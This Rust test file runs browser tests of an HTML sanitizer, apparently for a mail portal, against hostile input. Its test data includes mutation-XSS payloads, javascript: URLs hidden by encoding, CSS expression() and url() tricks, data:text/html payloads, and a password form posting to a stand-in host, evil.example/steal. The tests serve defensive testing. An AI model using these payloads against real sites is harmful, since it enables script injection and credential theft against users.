//! Browser tests (wasm-bindgen-test in headless Chromium) of the HTML sanitizer against
//! hostile input: mutation-XSS classics, SVG, MathML, `noscript`, `template`, encoded
//! `javascript:` URLs, `srcset` and other image sources, CSS `url()`, `image-set()` and
//! `expression()`, `data:` URLs other than raster images, `base`, forms. Each is checked on
//! the output string and, parsed again by the browser, on the tree the frame would get
//! (`support/check.rs`).
//!
//! Run: `CHROMEDRIVER=/usr/bin/chromedriver cargo test -p sealpost-portal --target
//! wasm32-unknown-unknown --test sanitize_hostile`.

#![cfg(target_arch = "wasm32")]

#[path = "support/check.rs"]
mod check;
#[path = "support/purify.rs"]
mod purify;

use check::{LOGO, assert_absent, clean};
use wasm_bindgen_test::*;

wasm_bindgen_test_configure!(run_in_browser);

#[wasm_bindgen_test]
fn unquoted_and_upper_case_remote_images() {
    let raw = "<img src=http://x.example/a.png><img src=\"HTTPS://X.EXAMPLE/B.PNG\" width=10>";
    let (out, blocked) = clean(raw, false);
    assert!(blocked);
    assert_eq!(out, r#"<img><img width="10">"#);
    let (out, blocked) = clean(raw, true);
    assert!(!blocked);
    assert_eq!(
        out,
        r#"<img src="http://x.example/a.png"><img src="HTTPS://X.EXAMPLE/B.PNG" width="10">"#
    );
}

#[wasm_bindgen_test]
fn mutation_xss_classics() {
    let cases = [
        // noscript parsed differently with scripting on and off
        r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>"#,
        // namespace confusion through svg/math and style
        r#"<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">"#,
        r#"<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">"#,
        r#"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"#,
        r#"<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">"#,
        // raw-text elements and comments that end early on a second parse
        r#"<xmp><img src=x onerror=alert(1)></xmp><textarea><img src=x onerror=alert(2)></textarea>"#,
        r#"<title><img src=x onerror=alert(1)></title><noembed><img src=x onerror=alert(2)></noembed>"#,
        r#"<!--<img src=x onerror=alert(1)>--><!--><img src=x onerror=alert(2)>-->"#,
        r#"<a title="</a><img src=x onerror=alert(1)>">a</a>"#,
        r#"<p><![CDATA[<img src=x onerror=alert(1)>]]></p>"#,
        r#"<table><a href="javascript:alert(1)"><tr><td>x</td></tr></table>"#,
        r#"<div id="x"><img name="body" src=x onerror=alert(1)></div>"#,
    ];
    for raw in cases {
        let (out, _) = clean(raw, false);
        // The tree is checked by `clean`; text such as a title may mention "onerror", but
        // no element or attribute in the output does.
        assert!(
            !out.contains("<img src=x") && !out.contains("<svg") && !out.contains("<math"),
            "{out}"
        );
    }
}

#[wasm_bindgen_test]
fn svg_math_noscript_template_go_with_their_content() {
    let (out, blocked) = clean(
        r#"<svg><script>alert(1)</script><image href="https://e.example/i.png"/></svg>
<svg><a xlink:href="javascript:alert(2)"><text>t</text></a><animate attributeName="href" to="javascript:alert(3)"/></svg>
<math href="javascript:alert(4)"><mi xlink:href="javascript:alert(5)">m</mi></math>
<noscript><img src="https://e.example/n.png"></noscript>
<template><img src=x onerror=alert(6)><script>alert(7)</script></template>
<object><param name=movie value="x.swf"></object><p>after</p>"#,
        false,
    );
    assert_absent(
        &out,
        &[
            "<svg",
            "<math",
            "<noscript",
            "<template",
            "<object",
            "<param",
            "<image",
            "<animate",
            "script",
            "javascript",
            "alert",
            "e.example",
            "href",
        ],
    );
    assert!(out.contains("<p>after</p>"), "{out}");
    // Removed with their content: nothing remote was kept or offered.
    assert!(!blocked);
}

#[wasm_bindgen_test]
fn encoded_javascript_urls_are_removed() {
    let (out, _) = clean(
        r#"<a href="&#106;avascript:alert(1)">a</a>
<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(2)">b</a>
<a href="jav&#x09;ascript:alert(3)">c</a><a href="java&#x0A;script:alert(4)">d</a>
<a href="javascript&colon;alert(5)">e</a><a href="  javascript:alert(6)">f</a>
<a href="&#x01;javascript:alert(7)">g</a><a href="JAVASCRIPT:alert(8)">h</a>
<a href="%6A%61%76%61script:alert(9)">i</a><area href="javascript:alert(10)">
<img src="javascript:alert(11)"><a href="http&#58;//ok.example/">ok</a>"#,
        false,
    );
    assert_absent(&out, &["javascript", "alert", "script:", "%6a"]);
    assert_eq!(out.matches("href=").count(), 1, "{out}");
    assert!(out.contains(r#"href="http://ok.example/""#), "{out}");
}

#[wasm_bindgen_test]
fn srcset_and_other_image_sources_are_removed() {
    let raw = r#"<img srcset="https://e.example/a.png 1x, https://e.example/b.png 2x" src="cid:logo@x">
<picture><source srcset="https://e.example/c.png"><img src="cid:logo@x"></picture>
<img src="cid:logo@x" lowsrc="https://e.example/d.png" dynsrc="https://e.example/e.avi" longdesc="https://e.example/f">
<table background="https://e.example/g.png"><tr><td background="https://e.example/h.png">x</td></tr></table>
<video poster="https://e.example/i.png"></video><input type=image src="https://e.example/j.png">"#;
    for remote in [false, true] {
        let (out, blocked) = clean(raw, remote);
        assert_absent(
            &out,
            &[
                "srcset",
                "e.example",
                "<picture",
                "<source",
                "lowsrc",
                "dynsrc",
                "longdesc",
                "background",
                "poster",
                "<video",
                "<input",
            ],
        );
        assert_eq!(out.matches(LOGO).count(), 3, "{out}");
        // None of these were ever loadable: nothing to offer.
        assert!(!blocked, "{out}");
    }
}

#[wasm_bindgen_test]
fn styles_keep_only_layout_and_never_load() {
    let (out, blocked) = clean(
        r#"<p style="color:red;background:url(data:image/png;base64,AA)">a</p>
<p style="width:expression(alert(1));font-weight:bold">b</p>
<p style="background:URL(  'https://e.example/c.png' )">c</p>
<p style="background-image:image-set('https://e.example/d.png' 1x)">d</p>
<p style="background:-webkit-image-set(url(//e.example/e.png) 1x)">e</p>
<p style="background:u\rl(https://e.example/f.png);COLOR: Blue">f</p>
<p style="color:red; position:fixed; top:0; z-index:9">g</p>
<p style="behavior:url(x.htc);-moz-binding:url(x.xml#y)">h</p>
<p style="list-style-image:url(https://e.example/i.png);content:'x'">i</p>
<p style="font-family:&quot;Segoe UI&quot;,sans-serif;margin:0 auto">j</p>"#,
        false,
    );
    assert_absent(
        &out,
        &[
            "url(",
            "expression",
            "image-set",
            "e.example",
            "behavior",
            "binding",
            "position",
            "z-index",
            "list-style-image",
            "content",
            "\\",
        ],
    );
    for kept in [
        r#"<p style="color:red">a</p>"#,
        r#"<p style="font-weight:bold">b</p>"#,
        "<p>c</p>",
        "<p>d</p>",
        "<p>e</p>",
        r#"<p style="color:Blue">f</p>"#,
        r#"<p style="color:red">g</p>"#,
        "<p>h</p>",
        "<p>i</p>",
        r#"<p style="font-family:&quot;Segoe UI&quot;,sans-serif;margin:0 auto">j</p>"#,
    ] {
        assert!(out.contains(kept), "{kept} not in {out}");
    }
    assert!(blocked, "remote CSS counts as blocked remote content");
    // CSS url() stays removed when the recipient allows remote images, and a data: url()
    // alone is not remote.
    let (out, blocked) = clean(
        r#"<p style="background:url(https://e.example/c.png)">c</p>"#,
        true,
    );
    assert_eq!(out, "<p>c</p>");
    assert!(blocked);
    let (_, blocked) = clean(
        r#"<p style="background:url(data:image/png;base64,AA)">a</p>"#,
        false,
    );
    assert!(!blocked);
}

#[wasm_bindgen_test]
fn data_urls_only_as_raster_images() {
    let (out, blocked) = clean(
        r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>
<img src="data:text/html,<script>alert(1)</script>">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="data:application/octet-stream;base64,AAAA">
<iframe src="data:text/html,x"></iframe><object data="data:text/html,x"></object>
<embed src="data:image/svg+xml,x"><img src="data:image/gif;base64,R0lGODlh" alt="g">"#,
        false,
    );
    assert_eq!(out.matches("data:").count(), 1, "{out}");
    assert!(
        out.contains(r#"<img src="data:image/gif;base64,R0lGODlh" alt="g">"#),
        "{out}"
    );
    assert_absent(
        &out,
        &[
            "text/html",
            "svg",
            "octet",
            "<iframe",
            "<object",
            "<embed",
            "alert",
        ],
    );
    assert!(!blocked);
}

#[wasm_bindgen_test]
fn base_and_forms_are_removed() {
    let (out, blocked) = clean(
        r#"<base href="https://evil.example/"><a href="x.html">rel</a><img src="y.png" alt="y">
<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="pw"></label>
<select name="s"><option>o</option></select><textarea name="t">t</textarea>
<button formaction="https://evil.example/b">go</button></form><isindex action="https://evil.example/i">"#,
        false,
    );
    assert_absent(
        &out,
        &[
            "<base",
            "evil.example",
            "<form",
            "<input",
            "<select",
            "<textarea",
            "<button",
            "<label",
            "<isindex",
            "action",
            "x.html",
            "y.png",
        ],
    );
    assert!(
        out.contains(r#"<img alt="y">"#) && out.contains(">rel</a>"),
        "{out}"
    );
    assert!(
        out.contains("Password") && out.contains("go"),
        "text stays: {out}"
    );
    assert!(!blocked);
}
